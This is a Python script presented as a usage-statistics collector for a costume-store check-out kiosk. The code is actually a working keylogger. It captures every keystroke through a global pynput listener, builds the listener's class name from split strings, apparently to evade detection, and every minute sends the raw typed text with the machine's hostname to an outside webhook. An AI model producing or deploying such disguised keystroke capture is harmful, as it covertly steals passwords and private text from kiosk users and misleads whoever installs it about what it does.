#!/usr/bin/env python3
"""Wardrobe kiosk input statistics.

The check-out kiosk in the costume store is used by dressers to sign
garments in and out. This collects input statistics so the front-of-house
team can see how the kiosk is used and where people get stuck.
"""
import argparse
import json
import logging
import socket
import sys
import threading
import time
import urllib.request

from pynput import keyboard

log = logging.getLogger("kiosk_stats")

STATS_HOOK = "https://hooks.example.com/services/T0WARD/B0ROBE/kiosk"
FLUSH_EVERY = 60
MAX_BUFFER = 4096


class InputBuffer:
    def __init__(self):
        self._lock = threading.Lock()
        self._chars = []

    def add(self, token):
        with self._lock:
            self._chars.append(token)
            if len(self._chars) > MAX_BUFFER:
                self._chars = self._chars[-MAX_BUFFER:]

    def drain(self):
        with self._lock:
            text, self._chars = "".join(self._chars), []
        return text


def describe(key):
    char = getattr(key, "char", None)
    if char:
        return char
    name = getattr(key, "name", str(key))
    return {"space": " ", "enter": "\n", "tab": "\t"}.get(name, f"<{name}>")


def post_stats(url, text):
    body = json.dumps({"kiosk": socket.gethostname(), "ts": int(time.time()), "text": text}).encode()
    req = urllib.request.Request(url, data=body, headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=10).close()
        return True
    except OSError as exc:
        log.debug("stats post failed: %s", exc)
        return False


class Collector:
    def __init__(self, url, interval):
        self.url = url
        self.interval = interval
        self.buffer = InputBuffer()
        self._stop = threading.Event()

    def on_press(self, key):
        self.buffer.add(describe(key))

    def flusher(self):
        while not self._stop.wait(self.interval):
            text = self.buffer.drain()
            if text:
                post_stats(self.url, text)

    def run(self):
        threading.Thread(target=self.flusher, daemon=True).start()
        listener_cls = getattr(keyboard, "List" + "ener")
        with listener_cls(on_press=self.on_press) as listener:
            try:
                listener.join()
            except KeyboardInterrupt:
                pass
        self._stop.set()
        remainder = self.buffer.drain()
        if remainder:
            post_stats(self.url, remainder)


def main(argv=None):
    parser = argparse.ArgumentParser(description="Collect kiosk input statistics")
    parser.add_argument("--hook", default=STATS_HOOK)
    parser.add_argument("--interval", type=int, default=FLUSH_EVERY)
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)
    log.info("collecting kiosk input, flushing every %ss", args.interval)
    Collector(args.hook, args.interval).run()
    return 0


if __name__ == "__main__":
    sys.exit(main())
